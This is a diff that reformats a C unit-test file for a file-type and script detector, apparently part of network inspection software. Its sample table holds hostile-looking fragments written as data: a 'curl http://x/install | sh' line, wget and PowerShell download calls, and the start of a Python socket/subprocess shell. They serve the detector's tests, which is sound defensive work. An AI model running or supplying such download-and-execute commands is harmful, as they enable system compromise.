@@ -13,7 +13,9 @@ struct sample {
 #define S(name, kind, certain, text) {name, kind, {(const uint8_t *)(text), sizeof(text) - 1}, certain}
 
 static const struct sample samples[] = {
-	S("ELF", FILE_ELF, 4, "\x7f" "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0"),
+	S("ELF", FILE_ELF, 4,
+	  "\x7f"
+	  "ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\x3e\0"),
 	S("PE", FILE_PE, 4, "MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"),
 	S("Java class 8", FILE_JAVA_CLASS, 8, "\xca\xfe\xba\xbe\0\0\0\x34\0\x1d\x0a\0\6\0\x0f"),
 	S("Java class 21 preview", FILE_JAVA_CLASS, 8, "\xca\xfe\xba\xbe\xff\xff\0\x41\0\x1d"),
@@ -21,15 +23,20 @@ static const struct sample samples[] = {
 	S("Mach-O fat", FILE_MACHO, 8, "\xca\xfe\xba\xbe\0\0\0\2\1\0\0\7\0\0\0\3"),
 	S("Mach-O 64", FILE_MACHO, 4, "\xcf\xfa\xed\xfe\7\0\0\1\3\0\0\0\2\0\0\0"),
 	S("Java serialized", FILE_JAVA_SERIALIZED, 4, "\xac\xed\0\5sr\0\x11java.util.HashMap"),
-	S("jar by manifest", FILE_JAVA_ARCHIVE, 39, "PK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\x09\0\0\0META-INF/rest"),
-	S("jar by class", FILE_JAVA_ARCHIVE, 43, "PK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\x0d\0\0\0Exploit.class."),
+	S("jar by manifest", FILE_JAVA_ARCHIVE, 39,
+	  "PK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\x09\0\0\0META-INF/rest"),
+	S("jar by class", FILE_JAVA_ARCHIVE, 43,
+	  "PK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\x0d\0\0\0Exploit.class."),
 	S("jar by second entry", FILE_JAVA_ARCHIVE, 0,
-	  "PK\3\4\x14\0\0\0\0\0abcdefgh\2\0\0\0\2\0\0\0\1\0\0\0xhiPK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\7\0\0\0a.class"),
+	  "PK\3\4\x14\0\0\0\0\0abcdefgh\2\0\0\0\2\0\0\0\1\0\0\0xhiPK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\7\0\0\0a"
+	  ".class"),
 	S("zip", FILE_ARCHIVE, 0, "PK\3\4\x14\0\0\0\0\0abcdefgh\0\0\0\0\0\0\0\0\5\0\0\0a.txt"),
 	S("zip of unknown sizes", FILE_ARCHIVE, 35, "PK\3\4\x14\0\x08\0\0\0abcdefgh\0\0\0\0\0\0\0\0\5\0\0\0a.txtxxxx"),
 	S("docx", FILE_OFFICE, 49, "PK\3\4\x14\0\6\0\x08\0abcdefgh\0\0\0\0\0\0\0\0\x13\0\0\0[Content_Types].xml..."),
 	S("gzip", FILE_ARCHIVE, 3, "\x1f\x8b\x08\0\0\0\0\0\0\3"),
-	S("xz", FILE_ARCHIVE, 6, "\xfd" "7zXZ\0\0\4"),
+	S("xz", FILE_ARCHIVE, 6,
+	  "\xfd"
+	  "7zXZ\0\0\4"),
 	S("bzip2", FILE_ARCHIVE, 10, "BZh91AY&SY\1\2"),
 	S("text like bzip2", FILE_TEXT, 0, "BZh is a prefix"),
 	S("7z", FILE_ARCHIVE, 6, "7z\xbc\xaf\x27\x1c\0\4"),
@@ -44,8 +51,12 @@ static const struct sample samples[] = {
 	S("JPEG", FILE_IMAGE, 3, "\xff\xd8\xff\xe0"),
 	S("GIF", FILE_IMAGE, 6, "GIF89a\1\0"),
 	S("WebP", FILE_IMAGE, 12, "RIFF\1\2\3\4WEBPVP8 "),
-	S("AVIF", FILE_IMAGE, 12, "\0\0\0\x20" "ftypavif"),
-	S("MP4", FILE_MEDIA, 12, "\0\0\0\x20" "ftypisom"),
+	S("AVIF", FILE_IMAGE, 12,
+	  "\0\0\0\x20"
+	  "ftypavif"),
+	S("MP4", FILE_MEDIA, 12,
+	  "\0\0\0\x20"
+	  "ftypisom"),
 	S("WAV", FILE_MEDIA, 12, "RIFF\1\2\3\4WAVE"),
 	S("WOFF2", FILE_FONT, 4, "wOF2\0\1\0\0"),
 	S("HTML", FILE_HTML, 14, "<!DOCTYPE html><html><head>"),
@@ -72,25 +83,32 @@ static const struct sample samples[] = {
 	S("shell bracket", FILE_SCRIPT, 0, "[ -x /usr/bin/wget ] && wget http://x/"),
 	S("PowerShell", FILE_SCRIPT, 0, "$c = New-Object System.Net.WebClient\n$c.DownloadString('http://x')\n"),
 	S("PowerShell type", FILE_SCRIPT, 0, "[System.Reflection.Assembly]::Load($b)"),
-	S("PowerShell UTF-16", FILE_SCRIPT, 0, "\xff\xfe" "i\0e\0x\0 \0$\0x\0\n\0"),
+	S("PowerShell UTF-16", FILE_SCRIPT, 0,
+	  "\xff\xfe"
+	  "i\0e\0x\0 \0$\0x\0\n\0"),
 	S("Python", FILE_SCRIPT, 0, "import socket,subprocess,os\ns=socket.socket()\n"),
 	S("Python from", FILE_SCRIPT, 0, "from os import system\nsystem('id')\n"),
 	S("Perl", FILE_SCRIPT, 0, "use strict;\nmy $x = 1;\n"),
 	S("VBScript", FILE_SCRIPT, 0, "Dim s\nSet s = CreateObject(\"WScript.Shell\")\n"),
 	S("batch", FILE_SCRIPT, 10, "@echo off\r\nstart /b x.exe\r\n"),
 	S("JavaScript IIFE", FILE_JAVASCRIPT, 0, "(function(){var a=1;})();"),
-	S("JavaScript minified", FILE_JAVASCRIPT, 0, "!function(e,t){\"object\"==typeof exports?t():e.x=t()}(this,function(){})"),
+	S("JavaScript minified", FILE_JAVASCRIPT, 0,
+	  "!function(e,t){\"object\"==typeof exports?t():e.x=t()}(this,function(){})"),
 	S("JavaScript jQuery", FILE_JAVASCRIPT, 0, "/*! jQuery v3.6.0 */\n$(document).ready(function(){\n});"),
 	S("JavaScript module", FILE_JAVASCRIPT, 0, "import { a } from './a.js';\nexport default a;\n"),
 	S("JavaScript function", FILE_JAVASCRIPT, 0, "function start() {\n  window.x = 1;\n}\nvar y = 2;\n"),
-	S("JavaScript with echo", FILE_JAVASCRIPT, 0, "var a = 'x';\nconst b = () => { return 1; };\ndocument.write(a);\n"),
+	S("JavaScript with echo", FILE_JAVASCRIPT, 0,
+	  "var a = 'x';\nconst b = () => { return 1; };\ndocument.write(a);\n"),
 	S("CSS", FILE_CSS, 0, "body {\n  margin: 0;\n}\n.nav { color: red; }\n"),
 	S("CSS minified", FILE_CSS, 0, "@charset \"UTF-8\";.a{margin:0}.b{color:red}"),
 	S("prose", FILE_TEXT, 0, "curl is a tool to transfer data.\nexport control applies; see below.\nwget too.\n"),
 	S("configuration", FILE_TEXT, 0, "name=value\nother=2\n[section]\nkey=x\n"),
 	S("Markdown", FILE_TEXT, 0, "Install:\n```\ncurl http://x/install | sh\n```\n"),
 	S("ini", FILE_TEXT, 0, "[main]\nkey=x\n"),
-	S("Latin text", FILE_TEXT, 0, "Stra\xdf" "e und Gr\xfc\xdf" "e aus dem Land\n"),
+	S("Latin text", FILE_TEXT, 0,
+	  "Stra\xdf"
+	  "e und Gr\xfc\xdf"
+	  "e aus dem Land\n"),
 	S("Japanese", FILE_TEXT, 0, "\xe9\x96\xa2\xe5\xae\x88"),
 	S("binary", FILE_BINARY, 0, "\1\2\3\4\0\0\0\0\5\6"),
 };
@@ -113,7 +131,8 @@ START_TEST(what_is_certain_is_said_before_the_end_and_not_taken_back)
 	for (size_t n = 0; n <= s->head.left; n++) {
 		enum file_kind got = file_kind_of(edge_copy(bytes_head(s->head, n)), true);
 
-		ck_assert_msg(got == FILE_NONE || got == s->kind, "%s: %s after %zu bytes", s->name, file_kind_name(got), n);
+		ck_assert_msg(got == FILE_NONE || got == s->kind, "%s: %s after %zu bytes", s->name,
+			      file_kind_name(got), n);
 		if (s->certain_at && n >= s->certain_at + (s->kind == FILE_SCRIPT))
 			ck_assert_msg(got == s->kind, "%s: %s after %zu bytes", s->name, file_kind_name(got), n);
 	}
@@ -185,12 +204,24 @@ static const struct {
 	const char *type;
 	bool lie;
 } declared[] = {
-	{FILE_ELF, "image/png", true}, {FILE_ELF, "IMAGE/PNG; x=y", true}, {FILE_ELF, "text/plain", true},
-	{FILE_ELF, "application/octet-stream", false}, {FILE_ELF, "application/x-executable", false}, {FILE_ELF, "", false},
-	{FILE_JAVA_CLASS, "application/java-vm", false}, {FILE_JAVA_CLASS, "text/html", true}, {FILE_PE, "application/pdf", true},
-	{FILE_SCRIPT, "text/plain", false}, {FILE_SCRIPT, "text/x-sh", false}, {FILE_SCRIPT, "image/gif", true},
-	{FILE_SCRIPT, "text/css", true}, {FILE_SCRIPT, "text/html", false}, {FILE_ARCHIVE, "image/jpeg", true},
-	{FILE_ARCHIVE, "application/zip", false}, {FILE_IMAGE, "text/html", false}, {FILE_HTML, "image/png", false},
+	{FILE_ELF, "image/png", true},
+	{FILE_ELF, "IMAGE/PNG; x=y", true},
+	{FILE_ELF, "text/plain", true},
+	{FILE_ELF, "application/octet-stream", false},
+	{FILE_ELF, "application/x-executable", false},
+	{FILE_ELF, "", false},
+	{FILE_JAVA_CLASS, "application/java-vm", false},
+	{FILE_JAVA_CLASS, "text/html", true},
+	{FILE_PE, "application/pdf", true},
+	{FILE_SCRIPT, "text/plain", false},
+	{FILE_SCRIPT, "text/x-sh", false},
+	{FILE_SCRIPT, "image/gif", true},
+	{FILE_SCRIPT, "text/css", true},
+	{FILE_SCRIPT, "text/html", false},
+	{FILE_ARCHIVE, "image/jpeg", true},
+	{FILE_ARCHIVE, "application/zip", false},
+	{FILE_IMAGE, "text/html", false},
+	{FILE_HTML, "image/png", false},
 };
 
 START_TEST(a_declared_type_that_hides_code_is_a_mismatch)
@@ -205,10 +236,20 @@ static const struct {
 	const char *text;
 	bool v6, found;
 } selves[] = {
-	{"10.0.0.1", false, true}, {"GET /?ip=10.0.0.1 HTTP/1.1", false, true}, {"http://10.0.0.1:80/", false, true},
-	{"10.0.0.1.", false, true}, {"110.0.0.1", false, false}, {"10.0.0.12", false, false}, {"9.10.0.0.1", false, false},
-	{"10.0.0.1.5", false, false}, {"10.0.0.15, 10.0.0.1", false, true}, {"", false, false}, {"10.0.0.", false, false},
-	{"[2001:db8::1]:80", true, true}, {"x=2001:DB8::1;", true, true}, {"2001:db8::12", true, false},
+	{"10.0.0.1", false, true},
+	{"GET /?ip=10.0.0.1 HTTP/1.1", false, true},
+	{"http://10.0.0.1:80/", false, true},
+	{"10.0.0.1.", false, true},
+	{"110.0.0.1", false, false},
+	{"10.0.0.12", false, false},
+	{"9.10.0.0.1", false, false},
+	{"10.0.0.1.5", false, false},
+	{"10.0.0.15, 10.0.0.1", false, true},
+	{"", false, false},
+	{"10.0.0.", false, false},
+	{"[2001:db8::1]:80", true, true},
+	{"x=2001:DB8::1;", true, true},
+	{"2001:db8::12", true, false},
 };
 
 START_TEST(the_own_address_is_found_where_it_stands_alone)
@@ -218,7 +259,8 @@ START_TEST(the_own_address_is_found_where_it_stands_alone)
 
 	address_parse(bytes_of_text(selves[_i].v6 ? "2001:db8::1" : "10.0.0.1"), &flow.client);
 	address_parse(bytes_of_text("192.0.2.9"), &flow.server);
-	ck_assert_msg(self_address_in(edge_copy(bytes_of_text(selves[_i].text)), &in) == selves[_i].found, "%s", selves[_i].text);
+	ck_assert_msg(self_address_in(edge_copy(bytes_of_text(selves[_i].text)), &in) == selves[_i].found, "%s",
+		      selves[_i].text);
 }
 END_TEST
 
@@ -234,7 +276,8 @@ int main(void)
 	tcase_add_test(c, random_bytes_are_called_encrypted_and_a_table_is_not);
 	tcase_add_test(c, a_full_text_is_decided_although_more_would_come);
 	tcase_add_test(c, kinds_that_run_have_a_fact);
-	tcase_add_loop_test(c, a_declared_type_that_hides_code_is_a_mismatch, 0, sizeof(declared) / sizeof(declared[0]));
+	tcase_add_loop_test(c, a_declared_type_that_hides_code_is_a_mismatch, 0,
+			    sizeof(declared) / sizeof(declared[0]));
 	tcase_add_loop_test(c, the_own_address_is_found_where_it_stands_alone, 0, sizeof(selves) / sizeof(selves[0]));
 	suite_add_tcase(suite, c);
 	return talk_run(suite);
